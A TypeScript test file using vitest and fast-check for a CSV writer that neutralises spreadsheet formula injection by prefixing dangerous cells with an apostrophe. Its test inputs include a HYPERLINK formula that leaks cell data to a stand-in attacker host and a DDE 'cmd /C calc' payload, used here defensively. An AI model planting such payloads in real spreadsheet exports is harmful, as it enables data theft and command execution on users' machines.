import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRecord } from './csv.ts';

/**
 * The cells as a spreadsheet finds them: a quote counts at the start of a cell only, and what
 * follows the closing one still belongs to the cell.
 */
function parseCells(text: string, separator: string): string[] {
  const cells: string[] = [];
  const cell = new RegExp(
    `(?:"((?:[^"]|"")*)(?:"|$))?([^${separator}\\r\\n]*)(${separator}|\\r\\n?|\\n|$)`,
    'gy',
  );
  while (cell.lastIndex < text.length) {
    const [, quoted = '', rest = ''] = cell.exec(text)!;
    cells.push(quoted.replaceAll('""', '"') + rest);
  }
  return cells;
}

const startsFormula = /^["\s]*[=+\-@＝＋－＠]/u;

describe('a CSV record', () => {
  it('quotes what needs it', () => {
    expect(csvRecord(['plain', 'a,b', 'say "hi"', 'two\nlines', null, 7, false])).toBe(
      'plain,"a,b","say ""hi""","two\nlines",,7,false\r\n',
    );
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+15550100199', "'+15550100199"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    [' =1+1', "' =1+1"],
    ['=HYPERLINK("http://evil.example?"&A1)', `'=HYPERLINK("http://evil.example?"&A1)`],
    ['＝1+1', "'＝1+1"],
    ["x;=1+cmd|' /C calc'!A0;", "x;'=1+cmd|' /C calc'!A0;"],
    ['x\t+1', "x\t'+1"],
    ['x;\u00a0 -1', "x;\u00a0 '-1"],
    ['x\n@SUM(A1)\r\n-1', "x\n'@SUM(A1)\r\n'-1"],
    ['x|=1', "x|'=1"],
    ['x;"=1;""=1;" =1', `x;"'=1;""'=1;" '=1`],
    ['x;＝1', "x;'＝1"],
  ])('D100 makes no formula of %j', (value, defused) => {
    expect(parseCells(csvRecord([value]), ',')).toEqual([defused]);
  });

  it.each([
    '3 - 4',
    'a-b; c + d = e | f @ g',
    'ada+news@example.com; bob@example.com',
    'Tel. +1 555 010 0199',
    'yes, +1 more',
    "two lines\nwell-made, isn't it?",
  ])('leaves %j as it is', (value) => {
    expect(parseCells(csvRecord([value]), ',')).toEqual([value]);
  });

  const values = fc.array(
    fc.string({
      unit: fc.constantFrom(...'",;\t|\r\n=+-@＝a é'),
    }),
    { minLength: 1 },
  );

  it('D100 reads back as it was written, but for apostrophes', () => {
    fc.assert(
      fc.property(values, (written) => {
        const read = parseCells(csvRecord(written), ',');
        expect(read.map((cell) => cell.replaceAll("'", ''))).toEqual(written);
      }),
    );
  });

  it.each([',', ';', '\t'])('D100 holds no formula when %j separates', (separator) => {
    fc.assert(
      fc.property(fc.array(values), (records) => {
        const text = records.map(csvRecord).join('');
        for (const cell of parseCells(text, separator)) expect(cell).not.toMatch(startsFormula);
      }),
      { numRuns: 500 },
    );
  });

  it('D100 holds no formula where quotes count for nothing', () => {
    fc.assert(
      fc.property(values, (written) => {
        for (const cell of csvRecord(written).split(/[;\t|\r\n]/)) {
          expect(cell).not.toMatch(startsFormula);
        }
      }),
    );
  });
});
